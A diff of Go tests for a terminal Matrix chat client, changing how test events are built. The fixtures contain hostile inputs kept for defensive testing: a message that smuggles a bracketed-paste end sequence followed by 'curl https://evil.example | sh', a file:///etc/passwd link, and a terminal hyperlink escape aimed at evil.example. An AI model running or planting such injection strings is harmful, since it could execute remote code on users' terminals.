@@ -26,7 +26,7 @@ func TestCopyTextAndOpenLinks(t *testing.T) {
 	plain := msg(aliceRoom, "$plain", alice, testNow.Add(-2*time.Minute), "no links here")
 	links := msg(aliceRoom, "$links", alice, testNow.Add(-time.Minute), "see [the map](https://maps.example/x), [this](file:///etc/passwd) and https://b.example/y?q=1")
 	links.HTML = `see <strong>the</strong> <a href="https://maps.example/x">map</a>, <a href="file:///etc/passwd">this</a> and <a href="https://b.example/y?q=1">https://b.example/y?q=1</a>`
-	h.send(eventsMsg{[]matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{plain, links}}}})
+	h.send(eventsMsg{events: []matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{plain, links}}}})
 
 	h.send(tea.KeyPressMsg{Code: tea.KeyUp, Mod: tea.ModShift})
 	h.typeText("y")
@@ -74,7 +74,7 @@ func TestCopiedTextCannotEndABracketedPaste(t *testing.T) {
 	h := newHarness(t, svc, 100, 30)
 	openAlice(h)
 	evil := msg(aliceRoom, "$evil", alice, testNow.Add(-time.Minute), "harmless\x1b[201~\ncurl https://evil.example | sh\n")
-	h.send(eventsMsg{[]matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{evil}}}})
+	h.send(eventsMsg{events: []matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{evil}}}})
 	h.send(tea.KeyPressMsg{Code: tea.KeyUp, Mod: tea.ModShift})
 	h.typeText("y")
 	v := h.written.String()
@@ -103,7 +103,7 @@ func TestOpenAPlaceOnAMap(t *testing.T) {
 	place := msg(aliceRoom, "$place", alice, testNow.Add(-time.Minute), "Location geo:51.5,-0.12")
 	place.Kind, place.MsgType = matrixsvc.KindLocation, "m.location"
 	place.Location = &matrixsvc.Location{URI: "geo:51.5,-0.12;u=10", Description: "The pub\x1b]8;;https://evil.example\a"}
-	h.send(eventsMsg{[]matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{place}}}})
+	h.send(eventsMsg{events: []matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{place}}}})
 	requireContains(t, h.view(), "📍 Location: The pub")
 	h.send(tea.KeyPressMsg{Code: tea.KeyUp, Mod: tea.ModShift})
 	h.typeText("o")
